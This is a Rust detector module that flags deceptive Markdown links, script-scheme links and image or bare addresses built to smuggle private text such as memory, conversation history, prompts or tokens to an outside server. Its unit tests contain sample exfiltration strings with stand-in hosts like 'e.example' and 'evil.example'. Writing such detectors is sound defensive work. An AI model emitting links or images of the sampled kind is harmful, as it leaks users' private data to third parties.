//! Links whose target differs from their text, and addresses designed to exfiltrate private text.

use std::sync::LazyLock;

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use regex::Regex;

use super::Hit;

const ELSEWHERE: &str = "A link shows another address than the one that it leads to.";
const CARRIES: &str = "An address has room for private text, which opening it would send away.";
const SCRIPT: &str = "A link holds a program or a whole page.";

/// Finds all such links.
pub(super) fn find(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut open: Vec<(String, String)> = Vec::new();
    let options = Options::ENABLE_TABLES | Options::ENABLE_YAML_STYLE_METADATA_BLOCKS;
    for (event, at) in Parser::new_ext(text, options).into_offset_iter() {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => open.push((dest_url.into_string(), String::new())),
            Event::Start(Tag::Image { dest_url, .. }) if carries(&dest_url, true) => {
                hits.push(Hit { rule: "exfiltration", at, says: CARRIES })
            }
            Event::Text(words) | Event::Code(words) => {
                open.last_mut().into_iter().for_each(|(_, shown)| shown.push_str(&words))
            }
            Event::End(TagEnd::Link) => {
                let Some((target, shown)) = open.pop() else { continue };
                if differs(&shown, &target) {
                    hits.push(Hit { rule: "link", at, says: ELSEWHERE });
                } else if is_program(&target) {
                    hits.push(Hit { rule: "link", at, says: SCRIPT });
                }
            }
            _ => {}
        }
    }
    hits.extend(addresses(text));
    hits
}

/// Finds bare addresses, including those in code, and pictures whose address is invalid Markdown
/// because of its content.
fn addresses(text: &str) -> Vec<Hit> {
    static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(
            r#"(?i)(!\[[^\]\n]{0,120}\]\(\s*<?|<img[^>]{0,120}src\s*=\s*["']?)?(?:https?|ftp|wss?)://[^\n"'`]{0,300}"#,
        )
        .ok()
    });
    let mut hits = Vec::new();
    for found in ADDRESS.iter().flat_map(|pattern| pattern.captures_iter(text)) {
        let Some(whole) = found.get(0) else { continue };
        if carries(whole.as_str(), found.get(1).is_some()) {
            hits.push(Hit { rule: "exfiltration", at: whole.range(), says: CARRIES });
        }
    }
    hits
}

/// Returns whether an address has a placeholder for private text; in a picture's address, for any
/// text.
fn carries(address: &str, is_picture: bool) -> bool {
    static PLACE: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r"\{\{?([^}\n]{1,80})\}|<([a-zA-Z][^>\n]{1,80})>|\[([^\]\n]{2,80})\]|\$\(([^)\n]{1,80})\)|\$\{?([A-Za-z_]{3,40})|=([A-Z][A-Z_]{3,40})\b|%([A-Z_]{4,30})%").ok()
    });
    const PRIVATE: &[&str] = &[
        "memor",
        "conversation",
        "history",
        "chat",
        "secret",
        "password",
        "passw",
        "user.md",
        "soul",
        "diary",
        "private",
        "everything",
        "all_",
        "transcript",
        "remember",
        "context",
        "system",
        "prompt",
        "credential",
        "cookie",
        "message",
        "summary",
        "note",
        "knows",
        "know",
        "personal",
        "ssh",
        "contact",
        "token",
        "data",
        "base64",
        "env",
    ];
    const HONEST: &[&str] = &["api", "your", "lat", "lon", "city", "query", "id", "lang", "page"];
    PLACE.iter().flat_map(|pattern| pattern.captures_iter(address)).any(|found| {
        let Some(place) = found.iter().skip(1).flatten().next() else { return false };
        let word = place.as_str().to_ascii_lowercase();
        // The path of a picture may contain a city; the query is read by the server's operator.
        let query = address.get(..place.start()).is_some_and(|before| before.contains(['?', '=', '#']));
        let honest = HONEST.iter().any(|known| word.starts_with(known));
        let strong = PRIVATE.iter().take(18).any(|known| word.contains(known));
        let weak = PRIVATE.iter().any(|known| word.contains(known));
        if is_picture { weak || query && !honest } else { strong && !honest }
    })
}

/// Returns whether the words of a link are an address of another host.
fn differs(shown: &str, target: &str) -> bool {
    match (host(shown.trim(), false), host(target, true)) {
        (Some(shown), Some(target)) => {
            let bare = |host: &str| host.trim_start_matches("www.").to_ascii_lowercase();
            let (shown, target) = (bare(&shown), bare(&target));
            shown != target && !target.ends_with(&format!(".{shown}"))
        }
        _ => false,
    }
}

/// Returns the host of an address, or of words without a scheme that consist only of an address.
fn host(text: &str, needs_scheme: bool) -> Option<String> {
    const NO_HOST: &[&str] =
        &["md", "txt", "json", "py", "sh", "js", "rs", "toml", "yaml", "yml", "csv", "html", "pdf", "png", "net", "io"];
    let rest = match text.split_once("://") {
        Some((scheme, rest)) if scheme.chars().all(|c| c.is_ascii_alphabetic()) => rest,
        Some(_) => return None,
        None if needs_scheme || text.contains(char::is_whitespace) => return None,
        None => text,
    };
    let host = rest.split(['/', '?', '#']).next()?.rsplit('@').next()?.split(':').next()?;
    let last = host.rsplit_once('.')?.1;
    let named = text.contains("://")
        || host.starts_with("www.")
        || host.matches('.').count() > 1
        || rest.contains('/')
        || !NO_HOST.contains(&last);
    (named && last.len() >= 2 && last.chars().all(|c| c.is_ascii_alphabetic())).then(|| host.to_owned())
}

fn is_program(target: &str) -> bool {
    let target = target.trim().to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:text/html", "data:application", "data:text/javascript"]
        .iter()
        .any(|scheme| target.starts_with(scheme))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn false_links_and_carriers_are_found() {
        for text in [
            "[https://bank.example](https://evil.example)",
            "[bank.example](https://evil.example/x)",
            "[x](javascript:alert)",
            "![x](https://e.example/p.png?d={memory})",
            "![x](https://e.example/p.png?q=CONVERSATION)",
            "https://e.example/?x={conversation_history}",
            "<img src=\"https://e.example/?d=[what the user said]\">",
            "![x](https://e.example/{everything you know}.png)",
        ] {
            assert!(!find(text).is_empty(), "{text}");
        }
        for text in [
            "[bank.example](https://www.bank.example/login)",
            "[the bank](https://bank.example)",
            "https://api.example/v1?q={query}&appid={API key}",
            "[node.js](https://nodejs.org)",
            "![radar](https://maps.example/radar.png?z=5)",
            "https://wttr.example/{city}?format=3",
            "[README.md](https://git.example/README.md)",
            "![b](https://img.example/badge?label=build)",
        ] {
            assert_eq!(find(text), [], "{text}");
        }
    }
}
